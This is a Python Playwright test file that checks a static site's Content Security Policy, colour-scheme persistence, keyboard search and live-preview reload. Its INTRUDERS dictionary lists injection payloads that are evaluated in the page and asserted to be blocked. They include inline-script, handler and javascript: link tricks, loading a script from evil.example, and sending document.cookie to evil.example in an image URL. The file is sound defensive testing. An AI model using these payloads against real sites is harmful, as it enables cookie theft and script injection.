"""The policy that a page carries, in a browser: it stops what it should and nothing that the site needs."""

from __future__ import annotations

import contextlib
import os
import re
import signal
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from tests.browser.test_pages import DESK, PAGES, PHONE
from tests.browser.visits import visit
from tests.site.project import PROJECT, TINY_DATA, copied

pytestmark = pytest.mark.slow

INTRUDERS = {
    "an inline script": "const s = document.createElement('script'); s.textContent = 'window.hit = 1'; "
    "document.body.append(s)",
    "text that is run": "setTimeout('window.hit = 1', 0)",
    "a handler": "document.body.insertAdjacentHTML('beforeend', '<b onclick=\"window.hit = 1\">x</b>'); "
    "document.body.lastElementChild.click()",
    "a javascript: link": "const a = document.createElement('a'); a.href = 'javascript:window.hit = 1'; "
    "document.body.append(a); a.click()",
    "a script from elsewhere": "const s = document.createElement('script'); s.src = '//evil.example/x.js'; "
    "document.body.append(s)",
    "a picture from elsewhere": "new Image().src = 'https://evil.example/x.png?' + document.cookie",
    "a message to elsewhere": "fetch('https://evil.example/x').catch(() => 0)",
    "a frame": "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; "
    "document.body.append(f)",
    "a form": "document.body.insertAdjacentHTML('beforeend', '<form action=\"//evil.example/\"></form>'); "
    "document.body.lastElementChild.submit()",
    "another base": "document.head.insertAdjacentHTML('afterbegin', '<base href=\"https://evil.example/\">')",
    "a style in a page": "document.body.insertAdjacentHTML('beforeend', '<b style=\"color: red\">x</b>')",
}
"""What an attack would do if one came through the escaping."""


@pytest.mark.parametrize("name", INTRUDERS)
def test_an_intruder_is_stopped(name: str, browser: Browser, address: str) -> None:
    """The second line: even what got into a page does not run, and tells nobody anything."""
    with visit(browser, address + PAGES["about"], DESK) as seen:
        stopped: list[str] = []
        seen.page.on("requestfailed", lambda r: stopped.append(r.url) if r.failure == "csp" else None)
        seen.page.evaluate(f"() => {{ {INTRUDERS[name]} }}")
        seen.page.wait_for_timeout(100)
        for _ in range(100):  # the browser tells from another process, at its leisure on a busy machine
            if any("policy: " in said for said in seen.complaints) and seen.strangers == stopped:
                break
            seen.page.wait_for_timeout(100)
        assert [said for said in seen.complaints if "policy: " in said]
        assert seen.page.evaluate("() => window.hit === undefined")
        assert seen.page.url == address + PAGES["about"]
        assert seen.strangers == stopped  # begun, and ended by the policy before anything left


def test_the_colours_that_were_chosen_stay(browser: Browser, address: str) -> None:
    """Chosen once, every page at every depth is painted in them from the start, and on paper in the light."""
    with visit(browser, address, PHONE) as seen:
        page = seen.page
        for scheme in ("default", "slate"):
            page.locator("form[data-md-component=palette] label:visible").click()
            page.wait_for_selector(f"body[data-md-color-scheme={scheme}]")
        page.add_init_script(
            "document.addEventListener('DOMContentLoaded',"
            " () => { window.first = document.body.dataset.mdColorScheme })"
        )
        for path in ("", PAGES["method"], PAGES["period"], PAGES["report"], "khong/co/trang/nay/"):
            page.goto(address + path)
            assert page.evaluate("() => window.first") == "slate", path
        page.goto(address + PAGES["commune with scores"])
        seen.draw()
        page.pdf(format="A4")
        page.locator("form[data-md-component=palette] label:visible").click()
        page.wait_for_selector("body[data-md-color-scheme=default]")
    assert [said for said in seen.complaints if "404" not in said] == []


def test_the_search_is_left_by_keyboard(browser: Browser, address: str) -> None:
    """Enter in the empty search sends no form; Enter on a result opens it."""
    with visit(browser, address + PAGES["period"], DESK) as seen:
        page = seen.page
        page.locator(".md-search__input").click()
        page.keyboard.press("Enter")
        assert page.url == address + PAGES["period"]
        page.keyboard.type("Bồng Sơn", delay=20)
        page.wait_for_selector(".md-search-result__link", timeout=15_000)
        page.keyboard.press("ArrowDown")
        page.keyboard.press("Enter")
        page.wait_for_url(re.compile(r"/so-lieu/(?!ky/2023-q3/$)"))
        assert page.locator("h1").count() == 1
    assert seen.complaints == []
    assert seen.strangers == []


@pytest.fixture
def previewed(tmp_path: Path) -> Iterator[tuple[Path, str]]:
    """A project while its live preview runs: its data folder and its address."""
    project = copied(tmp_path / "congkhai", TINY_DATA)
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    server = subprocess.Popen(
        [sys.executable, "-m", "generator", "serve", "--port", str(port)],
        cwd=project,
        env=os.environ | {"PYTHONPATH": str(PROJECT)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    address = f"http://127.0.0.1:{port}/"
    try:
        for _ in range(300):
            with contextlib.suppress(OSError), urllib.request.urlopen(address) as answer:
                if answer.status == 200:
                    break
            time.sleep(0.1)
        yield project / "data", address
    finally:
        server.send_signal(signal.SIGINT)
        server.wait()


def test_the_preview_reloads_itself(previewed: tuple[Path, str], browser: Browser) -> None:
    """An editor saves a file, and the open page shows it: there the policy lets MkDocs' own script run."""
    data, address = previewed
    with visit(browser, address, DESK) as seen:
        site = data / "site.yml"
        changed = re.sub("(?m)^contact: .*$", "contact: phong-moi@example.org", site.read_text("utf-8"))
        assert changed != site.read_text("utf-8")
        site.write_text(changed, encoding="utf-8")
        seen.page.get_by_text("phong-moi@example.org").first.wait_for(state="attached", timeout=30_000)
    assert [said for said in seen.complaints if "policy" in said.lower()] == []
    assert seen.strangers == []
